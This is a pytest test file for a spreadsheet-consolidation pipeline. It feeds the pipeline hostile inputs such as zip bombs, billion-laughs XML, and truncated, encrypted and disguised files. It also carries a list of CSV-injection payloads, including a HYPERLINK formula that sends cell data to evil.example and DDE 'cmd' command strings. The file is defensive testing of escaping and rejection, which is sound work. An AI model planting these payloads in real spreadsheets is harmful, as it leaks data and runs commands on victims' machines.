"""Whole runs (real CLI subprocesses) over hostile inboxes: nothing crashes, nothing is lost."""

from __future__ import annotations

import csv
import io
import json
import resource
import shutil
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from pipeline.outputs.issues_csv import csv_safe
from tests.issue6_support import (
    BILLION_LAUGHS,
    CORPUS,
    PERIOD,
    copy_valid,
    replace_member,
    run_cli,
    snapshot,
    template_path,
    zip_bomb,
)

VALID = 5


def _report(outbox: Path) -> dict[str, Any]:
    data = json.loads((outbox / PERIOD / "run.json").read_text(encoding="utf-8"))
    assert isinstance(data, dict)
    return data


def _codes(report: dict[str, Any]) -> dict[str, tuple[str, str]]:
    return {f["path"]: (f["status"], f["issues"][0]["code"] if f["issues"] else "") for f in report["files"]}


@pytest.fixture(scope="module")
def baseline(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, Any]]:
    """A run over the valid submissions alone."""
    root = tmp_path_factory.mktemp("baseline")
    copy_valid(root / "inbox", VALID)
    done = run_cli(root / "inbox", root / "outbox")
    assert done.returncode == 0, done.stderr
    return root / "inbox", _report(root / "outbox")


@pytest.mark.skipif(not CORPUS.is_dir(), reason="shared corpus not present")
def test_foreign_corpus_beside_valid_submissions(
    tmp_path: Path, baseline: tuple[Path, dict[str, Any]]
) -> None:
    inbox, outbox = tmp_path / "inbox", tmp_path / "outbox"
    copy_valid(inbox, VALID)
    foreign = sorted(p.name for p in CORPUS.iterdir() if p.is_file())
    assert len(foreign) >= 130
    shutil.copytree(CORPUS, inbox / "foreign")
    before = snapshot(inbox)

    done = run_cli(inbox, outbox)
    peak_kib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss  # the largest process

    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr and "Traceback" not in done.stdout
    assert snapshot(inbox) == before
    report = _report(outbox)
    codes = _codes(report)
    for name in foreign:
        status, code = codes[f"foreign/{name}"]
        assert status in ("ignored", "rejected") and code, (name, status, code)
    # The valid submissions are consolidated exactly as without the foreign files.
    _, alone = baseline
    assert report["units"] == alone["units"]
    assert report["totals"] == alone["totals"]
    assert peak_kib * 1024 < 1 << 30
    times = json.loads((outbox / ".logs" / f"read-times-{PERIOD}.json").read_text(encoding="utf-8"))
    assert max(times.values()) < 10.0


def test_named_hostile_files_each_get_their_code(tmp_path: Path) -> None:
    inbox, outbox = tmp_path / "inbox", tmp_path / "outbox"
    copy_valid(inbox, 2)
    template = template_path()
    zip_bomb(inbox / "bom-giai-nen.xlsx", template)
    replace_member(template, inbox / "bom-thuc-the.xlsx", "xl/sharedStrings.xml", BILLION_LAUGHS)
    (inbox / "rong.xlsx").write_bytes(b"")
    (inbox / "dut.xlsx").write_bytes(template.read_bytes()[:4000])
    (inbox / "trang-web.xls").write_text("<html><body><table><tr><td>1</td></tr></table></body></html>")
    (inbox / "bang.xls").write_text("ma;so\nSYT;1\n")
    (inbox / "~$bao-cao.xlsx").write_bytes(b"\x00" * 165)
    (inbox / ".DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1")
    (inbox / "Thumbs.db").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    with (inbox / "qua-lon.xlsx").open("wb") as fh:
        fh.write(b"PK\x03\x04")
        fh.truncate(25 * 1024 * 1024)
    if CORPUS.is_dir():
        shutil.copy2(CORPUS / "pass_protected.xlsx", inbox / "mat-khau.xlsx")
        shutil.copy2(CORPUS / "issue_385.xls", inbox / "mat-khau-cu.xls")
    before = snapshot(inbox)
    done = run_cli(inbox, outbox)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    assert snapshot(inbox) == before
    codes = _codes(_report(outbox))
    expected = {
        "bom-giai-nen.xlsx": ("rejected", "file-bomb"),
        "bom-thuc-the.xlsx": ("rejected", "file-unsafe-xml"),
        "rong.xlsx": ("rejected", "file-empty"),
        "dut.xlsx": ("rejected", "file-truncated"),
        "trang-web.xls": ("rejected", "file-html"),
        "bang.xls": ("rejected", "file-text"),
        "~$bao-cao.xlsx": ("ignored", "lock-file"),
        ".DS_Store": ("ignored", "system-file"),
        "Thumbs.db": ("ignored", "system-file"),
        "qua-lon.xlsx": ("rejected", "file-too-large"),
    }
    if CORPUS.is_dir():
        expected |= {
            "mat-khau.xlsx": ("rejected", "file-encrypted"),
            "mat-khau-cu.xls": ("rejected", "file-encrypted"),
        }
    for name, want in expected.items():
        assert codes[name] == want, name
    assert sum(1 for status, _ in codes.values() if status == "accepted") == 2


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_safe_applies_owasp_rule() -> None:
    for payload in PAYLOADS:
        assert csv_safe(payload) == "'" + payload
    assert csv_safe("Sở Y tế") == "Sở Y tế"
    assert csv_safe("") == ""


def test_unit_text_never_becomes_a_formula(tmp_path: Path) -> None:
    """Payloads in file names and in a unit's narrative: strings in .xlsx, escaped in CSV."""
    from pipeline import config
    from pipeline.ooxml.edit import fill_workbook
    from pipeline.reading.workbook import read_workbook

    inbox, outbox = tmp_path / "inbox", tmp_path / "outbox"
    [valid] = copy_valid(inbox, 1)
    schema = config.load(None)
    cells = read_workbook(inbox / valid, "xlsx", schema).cells
    values = {k: c.value for k, c in cells.items() if c.value is not None}
    values["n1_results"] = PAYLOADS[0]
    values["preparer_email"] = PAYLOADS[1]  # quoted back in a value-bad-email message
    (inbox / valid).unlink()
    fill_workbook(template_path(), values, inbox / valid)
    names = []
    for i, payload in enumerate(PAYLOADS):
        name = payload.replace("/", "_") + f"{i}.xlsx"  # CR and tab are legal in Linux names
        (inbox / name).write_bytes(b"")  # an empty file: its name appears in every output
        names.append(name)
    done = run_cli(inbox, outbox)
    assert done.returncode == 0, done.stderr

    wb = openpyxl.load_workbook(outbox / PERIOD / f"tong-hop-{PERIOD}.xlsx")
    seen: set[str] = set()
    wanted = {n.replace("\r", "_x000D_") for n in names}  # xlsxwriter escapes CR; openpyxl keeps it
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and (
                    cell.value in wanted or any(p.strip() in cell.value for p in PAYLOADS)
                ):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    assert cell.hyperlink is None
                    seen.add(cell.value)
    assert wanted <= seen
    assert any(PAYLOADS[1] in value for value in seen)  # the unit's own text, as a string

    raw = (outbox / PERIOD / f"loi-kiem-tra-{PERIOD}.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    files = {row[0] for row in rows[1:]}
    for name in names:
        assert "'" + name in files
